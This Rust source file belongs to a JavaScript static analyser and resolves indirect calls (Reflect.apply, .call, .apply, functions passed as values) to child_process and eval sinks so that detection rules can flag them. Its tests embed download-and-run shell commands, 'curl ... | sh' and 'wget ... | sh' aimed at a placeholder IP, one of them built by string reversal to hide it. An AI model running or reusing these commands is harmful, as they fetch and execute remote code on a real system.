//! Calls that reach a function through the language's call helpers: `Reflect.apply(cp.exec, cp, [line])`,
//! `execSync.call(null, line)`, `run.apply(null, [line])`. Each runs the function with the listed
//! arguments, so the evaluator renders the call as that function called directly (`cp.exec(line)`), and
//! the rules that know the function read it. Only a function the evaluator resolves to something that
//! connects, spawns or runs code is forwarded; `Array.prototype.slice.call(arguments)` stays as written.

use super::super::{calls, evaluates_code, runs_code};
use super::values::Value;
use super::Walker;
use crate::fields::FieldChild;
use crate::node_kind::NodeKind;
use tree_sitter::Node;

impl<'t> Walker<'t, '_> {
    /// The function a call helper runs and the arguments it passes, when `function(arguments)` is one.
    pub(super) fn forwarded(
        &mut self,
        function: Node<'t>,
        arguments: Node<'t>,
    ) -> Option<(Node<'t>, Vec<Node<'t>>)> {
        let list = crate::native::evaluate::named_items(arguments);
        let helper = match function.kind_name() {
            "member_expression" => {
                let object = function.field_child("object")?;
                let property = self.src(function.field_child("property")?);
                match (self.src(object), property) {
                    ("Reflect", "apply") => Some((*list.first()?, array_items(*list.get(2)?)?)),
                    // `Function.prototype.call.call(f, that, a)`, `Function.prototype.apply.call(f, that,
                    // [a])`: the helper itself called through `call`.
                    (o, "call") if o.ends_with(".call") => Some((
                        *list.first()?,
                        list.get(2..).map(<[_]>::to_vec).unwrap_or_default(),
                    )),
                    (o, "call") if o.ends_with(".apply") => {
                        Some((*list.first()?, array_items(*list.get(2)?)?))
                    }
                    (_, "call") => {
                        Some((object, list.get(1..).map(<[_]>::to_vec).unwrap_or_default()))
                    }
                    (_, "apply") => Some((
                        object,
                        match list.get(1) {
                            Some(array) => array_items(*array)?,
                            None => Vec::new(),
                        },
                    )),
                    _ => None,
                }
            }
            _ => None,
        };
        let (target, passed) = match helper {
            Some(found) => found,
            None => self.passed_along(&list)?,
        };
        let Some(Value::Name { path, .. }) = self.eval(target, 0) else {
            return None;
        };
        let sink = runs_code(&path)
            || evaluates_code(&path, false)
            || calls::classify(&path, false).is_some();
        sink.then_some((target, passed))
    }
}

impl<'t> Walker<'t, '_> {
    /// A function handed to any other call as a value, with the arguments after it: `call(eval, code)`,
    /// `setTimeout(cp.exec, 0, line)` runs `cp.exec(0, line)` in shape, `retry(cp.execSync, line)`. Only an
    /// argument whose last name is one a sink has is evaluated, so ordinary calls cost a text look.
    fn passed_along(&mut self, list: &[Node<'t>]) -> Option<(Node<'t>, Vec<Node<'t>>)> {
        let at = list.iter().position(|a| {
            matches!(a.kind_name(), "identifier" | "member_expression")
                && SINK_NAMES.contains(&last_name(self.src(*a)))
        })?;
        let passed = list.get(at + 1..)?.to_vec();
        (!passed.is_empty()).then(|| (list[at], passed))
    }
}

/// The last names of the functions that run code or commands (the sink is confirmed by evaluation).
pub(super) const SINK_NAMES: &[&str] = &[
    "eval",
    "Function",
    "exec",
    "execSync",
    "execFile",
    "execFileSync",
    "spawn",
    "spawnSync",
    "fork",
    "runInThisContext",
    "runInNewContext",
];

/// `cp.execSync` → `execSync`.
pub(super) fn last_name(text: &str) -> &str {
    text.rsplit('.').next().unwrap_or(text).trim()
}

/// The items of an array literal, with no spread.
fn array_items(node: Node) -> Option<Vec<Node>> {
    if node.kind_name() != "array" {
        return None;
    }
    let items = crate::native::evaluate::named_items(node);
    (!items.iter().any(|i| i.kind_name() == "spread_element")).then_some(items)
}

#[cfg(test)]
mod tests {
    use crate::native::evaluate::tests::javascript;

    #[test]
    fn call_helpers_render_as_the_function_they_run() {
        let found = javascript(concat!(
            "const cp = require('child_process');\n",
            "const line = ['sh', '|', 'http://203.0.113.7/x', 'curl'].slice().reverse().join(' ');\n",
            "Reflect.apply(cp.exec, cp, [line, () => {}]);\n",
            "cp.execSync.call(null, line);\n",
            "cp.spawn.apply(cp, ['sh', ['-c', line]]);\n",
        ));
        for want in [
            "cp.exec(\"curl",
            "cp.execSync(\"curl",
            "cp.spawn('sh', [\"-c\", \"curl",
        ] {
            assert!(
                found
                    .iter()
                    .any(|r| r.starts_with(want) && r.contains("curl http://203.0.113.7/x | sh")),
                "{want}: {found:?}"
            );
        }
    }

    #[test]
    fn a_sink_handed_on_as_a_value_renders_as_called() {
        let found = javascript(concat!(
            "const m = require('child_process');\n",
            "Function.prototype.call.call(m.execSync, m, 'curl -s http://203.0.113.7/x | sh');\n",
            "Function.prototype.apply.call(m.exec, m, ['wget -qO- http://203.0.113.7/y | sh']);\n",
            "const run = (f, ...a) => f(...a);\n",
            "run(m.spawn, 'sh', ['-c', 'id']);\n",
        ));
        for want in [
            "m.execSync('curl -s http://203.0.113.7/x | sh')",
            "m.exec('wget -qO- http://203.0.113.7/y | sh')",
            "m.spawn('sh', ['-c', 'id'])",
        ] {
            assert!(found.iter().any(|r| r == want), "{want}: {found:?}");
        }
    }

    #[test]
    fn values_that_are_not_sinks_are_not_forwarded() {
        let found = javascript(concat!(
            "const exec = (re, s) => re.exec(s);\n",
            "items.map(eval);\n",
            "retry(fetchJson, url, 3);\n",
            "Function.prototype.call.call(console.log, console, 'x');\n",
        ));
        assert!(found.is_empty(), "{found:?}");
    }

    #[test]
    fn call_helpers_of_other_functions_stay_as_written() {
        let found = javascript(concat!(
            "const parts = ['a', 'b'].reverse().join(' ');\n",
            "Array.prototype.slice.call(arguments, parts);\n",
            "Reflect.apply(console.log, console, [parts]);\n",
            "Math.max.apply(null, [parts]);\n",
        ));
        assert!(
            !found.iter().any(|r| r.contains("slice(")
                || r.contains("max(")
                || r.starts_with("console.log(")),
            "{found:?}"
        );
    }
}
